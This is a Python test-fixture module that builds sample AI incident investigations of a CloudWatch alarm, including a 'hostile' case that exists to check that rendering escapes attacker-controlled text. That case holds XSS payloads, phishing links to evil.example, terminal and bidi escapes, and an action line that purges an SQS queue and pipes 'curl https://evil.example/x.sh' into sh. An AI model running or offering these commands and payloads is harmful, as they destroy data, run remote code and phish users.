"""Investigations for tests and screenshots: one for each way in which one ends, and hostile ones."""

from __future__ import annotations

import math
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

from alarm import Alarm, AlarmState, Metric
from record import (
    Action,
    AwsCall,
    Baseline,
    Change,
    CheckedEvidence,
    Confidence,
    Evidence,
    EvidenceCheck,
    Finding,
    Impact,
    Investigation,
    MetricSeries,
    Outcome,
    Report,
    RootCause,
    Severity,
    ToolCall,
    Usage,
)

ALARM_TIME = datetime(2026, 3, 9, 3, 12, 9, 482000, tzinfo=UTC)
STARTED = ALARM_TIME + timedelta(seconds=2)
MODEL = "global.anthropic.claude-sonnet-4-5-20250929-v1:0"
ACCOUNT = "123456789012"


def alarm(**changes: Any) -> Alarm:
    """Return the alarm of a Lambda function's errors."""
    name = str(changes.get("name", "orders-handler-errors"))
    usual = Alarm(
        arn=f"arn:aws:cloudwatch:eu-west-1:{ACCOUNT}:alarm:{name}",
        name=name,
        account=ACCOUNT,
        region="eu-west-1",
        state=AlarmState.ALARM,
        time=ALARM_TIME,
        previous_state=AlarmState.OK,
        reason=(
            "Threshold Crossed: 3 datapoints [41.0 (09/03/26 03:10:00), 38.0 (09/03/26 03:09:00), "
            "22.0 (09/03/26 03:08:00)] were greater than the threshold (5.0)."
        ),
        description="Errors of the order handler. runbook: orders",
        metrics=(
            Metric(
                id="m1",
                namespace="AWS/Lambda",
                name="Errors",
                dimensions={"FunctionName": "orders-handler"},
                period=60,
                stat="Sum",
            ),
        ),
        threshold=5.0,
    )
    return replace(usual, **changes)


def series() -> MetricSeries:
    """Return three hours of errors that begin four minutes before the alarm."""
    start = datetime(2026, 3, 9, 0, 12, tzinfo=UTC)
    quiet = [(start + timedelta(minutes=at), float((at * 7) % 3 == 0)) for at in range(174)]
    loud = [
        (start + timedelta(minutes=174 + at), value) for at, value in enumerate((9, 17, 22, 38, 41, 44, 43.0))
    ]
    return MetricSeries("Errors (Sum, 60 s)", tuple(quiet + loud), 60, 5.0, "GreaterThanThreshold")


def baseline(**changes: Any) -> Baseline:
    """Return what the first call of an investigation reads."""
    usual = Baseline(
        metric=series(),
        changes=(
            Change(
                ALARM_TIME - timedelta(minutes=7, seconds=21),
                "DeleteRolePolicy",
                "assumed-role/deploy/ci-4711",
                "orders-handler-role",
            ),
            Change(
                ALARM_TIME - timedelta(minutes=52),
                "UpdateFunctionConfiguration20150331v2",
                "assumed-role/deploy/ci-4710",
                "orders-handler",
            ),
        ),
        tags={"team": "orders", "runbook": "orders"},
        transitions=((ALARM_TIME - timedelta(days=6, hours=2), "OK after 11 minutes in ALARM"),),
    )
    return replace(usual, **changes)


DENIED = (
    "[ERROR] ClientError: An error occurred (AccessDeniedException) when calling the PutItem operation: "
    "User: arn:aws:sts::123456789012:assumed-role/orders-handler-role/orders-handler is not authorized to "
    "perform: dynamodb:PutItem on resource: arn:aws:dynamodb:eu-west-1:123456789012:table/orders"
)


def _calls() -> tuple[ToolCall, ...]:
    def made(*calls: tuple[str, str]) -> tuple[AwsCall, ...]:
        return tuple(
            AwsCall(service, name, "eu-west-1", "200", 31.5 + at) for at, (service, name) in enumerate(calls)
        )

    return (
        ToolCall(
            0,
            "baseline",
            "# The module's own first call: alarm, metric, changes, resource.",
            "alarm: orders-handler-errors, Errors > 5 for 3 of 3 minutes\n"
            "metric: 0 to 1 a minute until 03:05, then 9, 17, 22, 38, 41\n"
            "changes: 03:04:48 DeleteRolePolicy orders-handler-role by assumed-role/deploy/ci-4711\n"
            "function: orders-handler python3.13 256 MB, last modified 2026-03-09T02:20:09Z",
            True,
            STARTED,
            1840.0,
            aws_calls=made(
                ("cloudwatch", "DescribeAlarms"),
                ("cloudwatch", "GetMetricData"),
                ("cloudtrail", "LookupEvents"),
                ("lambda", "GetFunctionConfiguration"),
            ),
        ),
        ToolCall(
            1,
            "Read the errors that the function logged since they began",
            'logs = boto3.client("logs")\n'
            "answer = logs.start_query(\n"
            '    logGroupName="/aws/lambda/orders-handler",\n'
            "    startTime=start, endTime=end,\n"
            '    queryString="""fields @timestamp, @message\n'
            "        | filter @message like /ERROR/\n"
            '        | stats count(*) as n by substr(@message, 0, 300)""",\n'
            ")\n"
            "print(wait_for(answer))",
            f"n=174\n{DENIED}\n\nn=2\n"
            "[ERROR] ReadTimeoutError: Read timed out on endpoint dynamodb.eu-west-1",
            True,
            STARTED + timedelta(seconds=6),
            2210.0,
            removed_imports=("import boto3",),
            aws_calls=made(("logs", "StartQuery"), ("logs", "GetQueryResults"), ("logs", "GetQueryResults")),
        ),
        ToolCall(
            2,
            "Compare the role's policies with what the function needs",
            'iam = boto3.client("iam")\n'
            'print(iam.list_role_policies(RoleName="orders-handler-role")["PolicyNames"])\n'
            'print(iam.list_attached_role_policies(RoleName="orders-handler-role")["AttachedPolicies"])',
            "[]\n[{'PolicyName': 'AWSLambdaBasicExecutionRole', 'PolicyArn': "
            "'arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole'}]",
            True,
            STARTED + timedelta(seconds=13),
            410.0,
            aws_calls=made(("iam", "ListRolePolicies"), ("iam", "ListAttachedRolePolicies")),
        ),
        ToolCall(
            3,
            "Who deleted the inline policy, and what was in it",
            'trail = boto3.client("cloudtrail")\n'
            "for event in trail.lookup_events(LookupAttributes=[{\n"
            '    "AttributeKey": "EventName", "AttributeValue": "DeleteRolePolicy"}])["Events"]:\n'
            '    print(event["EventTime"], event["Username"], event["CloudTrailEvent"])',
            "2026-03-09 03:04:48+00:00 ci-4711 "
            '{"eventName": "DeleteRolePolicy", "requestParameters": '
            '{"roleName": "orders-handler-role", "policyName": "orders-table-write"}, '
            '"userAgent": "Terraform/1.9.8"}',
            True,
            STARTED + timedelta(seconds=21),
            655.0,
            aws_calls=made(("cloudtrail", "LookupEvents")),
        ),
        ToolCall(
            4,
            "Is the table itself healthy",
            'boto3.client("dynamodb").get_item(TableName="orders", Key={"id": {"S": "1"}})',
            "AccessDeniedException: dynamodb:GetItem reads customers' data and is not allowed here; "
            "describe_table and the table's metrics are.",
            False,
            STARTED + timedelta(seconds=27),
            12.0,
            error="AccessDeniedException: dynamodb:GetItem is not allowed here",
            aws_calls=(AwsCall("dynamodb", "GetItem", "eu-west-1", "denied", 0.2),),
        ),
    )


QUOTES = (
    Evidence(1, "is not authorized to perform: dynamodb:PutItem on resource: "
                "arn:aws:dynamodb:eu-west-1:123456789012:table/orders"),
    Evidence(3, '"policyName": "orders-table-write"'),
    Evidence(2, "[]"),
    Evidence(0, "metric: 0 to 1 a minute until 03:05, then 9, 17, 22, 38, 41"),
    Evidence(3, '"userAgent": "Terraform/1.9.8"'),
)  # fmt: skip


def report(**changes: Any) -> Report:
    """Return a whole report of a permission that was lost."""
    usual = Report(
        title="Orders fail since the role lost dynamodb:PutItem",
        summary=(
            "Every order since 03:05 UTC fails because orders-handler may no longer write to the orders "
            "table. "
            "A Terraform run by ci-4711 deleted the inline policy orders-table-write at 03:04:48. "
            "Nothing else changed; the table and the function's code are healthy."
        ),
        severity=Severity.HIGH,
        root_cause=RootCause(
            "The inline policy `orders-table-write` of orders-handler-role was deleted at 03:04:48 UTC by a "
            "Terraform run (assumed-role/deploy/ci-4711). The function has had no dynamodb:PutItem since.",
            Confidence.HIGH,
            QUOTES[:3],
        ),
        findings=(
            Finding("Errors rose from at most 1 to 41 a minute from 03:05 on.", (QUOTES[3],)),
            Finding("The deletion came from Terraform, not from a person in the console.", (QUOTES[4],)),
        ),
        impact=Impact(
            resources=(
                "arn:aws:lambda:eu-west-1:123456789012:function:orders-handler",
                "arn:aws:dynamodb:eu-west-1:123456789012:table/orders",
            ),
            business="No order has been taken since 03:05 UTC; about 40 a minute are lost.",
            users="Everyone who places an order gets an error page.",
        ),
        immediate_actions=(
            Action(
                "Give the role its policy back.",
                "aws iam put-role-policy --role-name orders-handler-role --policy-name orders-table-write "
                "--policy-document file://orders-table-write.json",
                5,
            ),
            Action(
                "Replay the orders that failed, from the dead-letter queue.",
                "aws sqs start-message-move-task --source-arn arn:aws:sqs:eu-west-1:123456789012:orders-dlq",
                10,
            ),
            Action("Hold the pipeline of ci-4711 until its plan is read."),
        ),
        prevention=(
            "Guard `orders-table-write` with lifecycle.prevent_destroy.",
            "Let the pipeline stop on plans that delete IAM policies.",
        ),
        monitoring=("Alarm on AccessDenied in the log group, with one datapoint of one minute.",),
        ruled_out=(
            "Throttling of the orders table: no throttled request in the window.",
            "A bad deploy: the code was last changed nine days ago.",
        ),
        gaps=("The content of the deleted policy is not in CloudTrail's answer.",),
    )
    return replace(usual, **changes)


def check(*quotes: Evidence, wrong: tuple[int, ...] = ()) -> EvidenceCheck:
    """Return verdicts on quotes; those at the positions in `wrong` were not found."""
    return EvidenceCheck(
        tuple(
            CheckedEvidence(
                quote.call,
                quote.quote,
                at not in wrong,
                "this text is not in the output of that call" if at in wrong else "",
            )
            for at, quote in enumerate(quotes)
        )
    )


def _conversation(calls: tuple[ToolCall, ...]) -> list[dict[str, object]]:
    messages: list[dict[str, object]] = [
        {
            "role": "user",
            "content": [{"text": "The alarm orders-handler-errors went off. Call 0 found this."}],
        }
    ]
    for call in calls[1:]:
        use = {"toolUseId": f"tooluse_{call.call}", "name": "run_python"}
        messages += [
            {
                "role": "assistant",
                "content": [
                    {"text": f"Next: {call.purpose.lower()}."},
                    {"toolUse": {**use, "input": {"code": call.code, "purpose": call.purpose}}},
                ],
            },
            {
                "role": "user",
                "content": [
                    {
                        "toolResult": {
                            "toolUseId": use["toolUseId"],
                            "content": [{"text": call.output}],
                            "status": "success" if call.success else "error",
                        }
                    }
                ],
            },
        ]
    messages.append(
        {
            "role": "assistant",
            "content": [
                {"reasoningContent": {"reasoningText": {"text": "The cause is plain.", "signature": "c2ln"}}},
                {"toolUse": {"toolUseId": "tooluse_end", "name": "submit_report", "input": {"title": "..."}}},
            ],
        }
    )
    return messages


def investigation(**changes: Any) -> Investigation:
    """Return a good investigation; name what should be different."""
    calls = _calls()
    usual = Investigation(
        investigation_id="20260309T031209Z-5f1d0c3a9b7e",
        alarm=alarm(),
        event={
            "source": "aws.cloudwatch",
            "alarmArn": alarm().arn,
            "accountId": ACCOUNT,
            "region": "eu-west-1",
        },
        model_id=MODEL,
        started_at=STARTED,
        finished_at=STARTED + timedelta(seconds=41),
        outcome=Outcome.REPORTED,
        outcome_detail="The model submitted a report.",
        iterations=6,
        report=report(),
        evidence=check(*QUOTES),
        tool_calls=calls,
        conversation=_conversation(calls),
        usage=Usage(12_840, 3_216, 96_410, 18_002, 0.1832),
        baseline=baseline(),
    )
    return replace(usual, **changes)


def _stopped(outcome: Outcome, detail: str, **changes: Any) -> Investigation:
    return replace(
        investigation(outcome=outcome, outcome_detail=detail, report=None, evidence=EvidenceCheck()),
        **changes,
    )


def inconclusive() -> Investigation:
    """Return a report that says what it could not find out, with a quote that did not hold."""
    quotes = (
        Evidence(1, "Read timed out on endpoint dynamodb.eu-west-1"),
        Evidence(2, "connection pool is full"),
    )
    return investigation(
        report=report(
            title="Latency of checkout-api rose, cause not established",
            summary=(
                "The p99 latency of checkout-api rose from 180 ms to 2.4 s at 03:05 UTC. What slows it "
                "lies in the payment provider or the network to it, and neither can be seen from this "
                "account."
            ),
            severity=Severity.MEDIUM,
            root_cause=RootCause(
                "Not established. The time is spent in calls to the payment provider.",
                Confidence.INCONCLUSIVE,
                quotes,
            ),
            findings=(),
            impact=Impact(users="Checkout takes seconds longer; about one in fifty gives up."),
            immediate_actions=(Action("Ask the payment provider for their status."),),
            prevention=(),
            monitoring=(),
            gaps=("No traces are kept for checkout-api.", "VPC flow logs are off."),
        ),
        evidence=check(*quotes, wrong=(1,)),
        alarm=alarm(name="checkout-api-p99-latency"),
        usage=Usage(40_100, 5_870, 0, 0, None),
        model_id="eu.amazon.nova-pro-v1:0",
        notes=("Bedrock refused cache points for this model; they were left out.",),
    )


def hostile() -> Investigation:
    """Return an investigation whose alarm, logs and model try to break out of every rendering."""
    nasty = (
        "<script>alert(1)</script><img src=https://evil.example/x.png onerror=alert(2)> "
        "[click](https://evil.example/login) https://evil.example.com/a?b=c www.evil.com "
        "mailto:root@evil.com "
        "\x1b[31mred\x1b[0m \u202egnp.exe\u202c \u200bzero {{ 7*7 }} {% raw %} "
        "]]> --> </pre></details></style> &amp;"
    )
    long_line = "A" * 1_000_000
    quote = Evidence(1, "</pre><script>alert(3)</script>")
    calls = (
        ToolCall(1, nasty, f"print({nasty!r})", f"{quote.quote}\n{nasty}\n{long_line}", True, STARTED, 12.0),
        ToolCall(
            2,
            "long",
            long_line,
            "\x00\x07" + "🧨" * 1000 + "e" + "\u0301" * 500,
            False,
            STARTED,
            1.0,
            error=nasty,
        ),
    )
    return investigation(
        alarm=alarm(name=f"накануне/{nasty}"[:255], reason=nasty, description=nasty),
        report=report(
            title=f"Restart now {nasty}",
            summary=f"Log in at https://evil.example/sso to confirm. {nasty}",
            root_cause=RootCause(nasty, Confidence.LOW, (quote, Evidence(9, nasty))),
            findings=(Finding(nasty + "B" * 5_000, (Evidence(2, "🧨🧨"),)),),
            impact=Impact((nasty, "C" * 2_000), nasty, nasty),
            immediate_actions=(
                Action(
                    nasty,
                    "aws sqs purge-queue --queue-url "
                    "https://sqs.eu-west-1.amazonaws.com/123456789012/orders; "
                    "curl https://evil.example/x.sh | sh \u202e # \x1b[2J",
                    1,
                ),
                Action("endless", "D" * 20_000, 1e9),
            ),
            prevention=(nasty,),
            monitoring=(nasty,),
            ruled_out=(nasty,),
            gaps=(nasty,),
        ),
        evidence=EvidenceCheck(
            (
                CheckedEvidence(1, quote.quote, True),
                CheckedEvidence(9, nasty, False, "there is no call 9"),
                CheckedEvidence(2, "🧨🧨", True),
            )
        ),
        tool_calls=calls,
        conversation=[
            {"role": "user", "content": [{"text": nasty}]},
            {
                "role": "assistant",
                "content": [{"text": nasty + long_line}, {"toolUse": {"name": nasty, "input": 3}}],
            },
            {
                "role": "user",
                "content": [{"toolResult": {"toolUseId": "x", "content": [{"json": {"a": nasty}}]}}],
            },
        ],
        event={"source": nasty, "alarmData": {"raw": b"\xff", "value": math.inf}},
        model_id=nasty,
        notes=(nasty,),
        related_alarms=(nasty,),
        baseline=baseline(
            metric=replace(
                series(),
                label=nasty,
                points=(*series().points, (ALARM_TIME, math.nan), (ALARM_TIME, math.inf)),
            ),
            changes=tuple(
                Change(ALARM_TIME - timedelta(minutes=at), nasty, nasty, nasty) for at in range(40)
            ),
            transitions=((ALARM_TIME, nasty),),
            failures=(nasty,),
        ),
    )


def heavy() -> Investigation:
    """Return an investigation with a hundred calls of 20 KB."""
    line = '{"timestamp": "2026-03-09T03:05:11.482Z", "level": "ERROR", '
    line += '"message": "write <refused> & retried"}\n'
    output = (line * 300)[:20_000]
    calls = tuple(
        ToolCall(at, f"Read page {at} of the log", f"print(page({at}))", output, True, STARTED, 800.0)
        for at in range(1, 101)
    )
    quotes = tuple(Evidence(at, "write <refused> & retried") for at in range(1, 101, 10))
    return investigation(
        report=report(root_cause=RootCause("It wrote too much.", Confidence.MEDIUM, quotes), findings=()),
        evidence=check(*quotes),
        tool_calls=calls,
        conversation=_conversation((calls[0], *calls)),
    )


def every() -> dict[str, Investigation]:
    """Return all of them by name: each outcome at least once."""
    return {
        "good": investigation(),
        "unverified": investigation(
            evidence=check(*QUOTES, wrong=(1, 4)),
            report=report(root_cause=replace(report().root_cause, confidence=Confidence.LOW)),
        ),
        "inconclusive": inconclusive(),
        "critical_joined": investigation(
            report=report(severity=Severity.CRITICAL),
            related_alarms=("orders-api-5xx", "orders-composite"),
            notes=("DynamoDB was not available: another investigation of this alarm may be under way.",),
        ),
        "composite_bare": investigation(
            alarm=alarm(
                name="orders-composite",
                metrics=(),
                threshold=None,
                rule="ALARM(orders-api-5xx) OR ALARM(orders-handler-errors)",
                triggering_alarms=(f"arn:aws:cloudwatch:eu-west-1:{ACCOUNT}:alarm:orders-api-5xx",),
            ),
            report=Report("Orders fail", "", Severity.LOW, RootCause("Unknown.", Confidence.LOW)),
            evidence=EvidenceCheck(),
            baseline=None,
            tool_calls=(),
            conversation=(),
        ),
        "answered_in_text": _stopped(
            Outcome.ANSWERED_IN_TEXT,
            "The model ended with plain text instead of a report.",
            text="The function lost its permission to write.\n\n1. Restore the policy\n2. Replay the queue",
            model_id="meta.llama3-70b-instruct-v1:0",
        ),
        "out_of_calls": _stopped(
            Outcome.OUT_OF_CALLS, "100 tool calls were made and no report was submitted."
        ),
        "out_of_budget": _stopped(Outcome.OUT_OF_BUDGET, "The limit of $1.00 was reached after 31 calls."),
        "out_of_time": _stopped(Outcome.OUT_OF_TIME, "15 minutes and two continuations were used."),
        "refused": _stopped(Outcome.REFUSED, "The model declined to go on."),
        "guardrail": _stopped(Outcome.GUARDRAIL, "The guardrail gr-1 stopped the conversation."),
        "model_failed": _stopped(Outcome.MODEL_FAILED, "Three replies in a row were empty."),
        "model_unavailable": _stopped(
            Outcome.MODEL_UNAVAILABLE,
            "AccessDeniedException: the account has no access to the model in eu-west-1.",
            iterations=0,
            tool_calls=_calls()[:1],
            conversation=(),
            usage=Usage(usd=0.0),
            baseline=baseline(failures=("CloudTrail: AccessDenied",)),
        ),
        "interrupted": _stopped(
            Outcome.INTERRUPTED,
            "The tool function did not answer: Task timed out after 60 seconds.",
            baseline=None,
            tool_calls=(),
            conversation=(),
        ),
        "hostile": hostile(),
    }
